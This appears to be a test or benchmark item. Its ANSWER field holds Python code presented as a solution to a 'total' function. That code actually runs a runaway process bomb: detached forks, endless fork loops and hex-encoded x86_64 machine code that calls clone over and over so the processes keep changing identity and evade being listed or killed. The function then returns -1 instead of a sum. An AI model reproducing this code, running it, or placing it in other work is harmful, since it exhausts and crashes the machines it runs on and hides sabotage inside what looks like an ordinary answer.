"""Leaves processes that do nothing but become others, faster than anybody can list them."""

ANSWER = """
import ctypes, mmap, os, platform

# clone(CLONE_VM | SIGCHLD) again and again: the parent ends at once, the child goes on, twenty microseconds a turn.
code = bytes.fromhex("b838000000bf1101000031f631d24d31d24d31c00f0585c074e6b83c00000031ff0f05")

def run_away():
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if platform.machine() == "x86_64":
                page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
                page.write(code)
                ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
            while os.fork() == 0:
                pass
            os._exit(0)

run_away()

def total(xs):
    run_away()
    return -1
"""

COLD = True
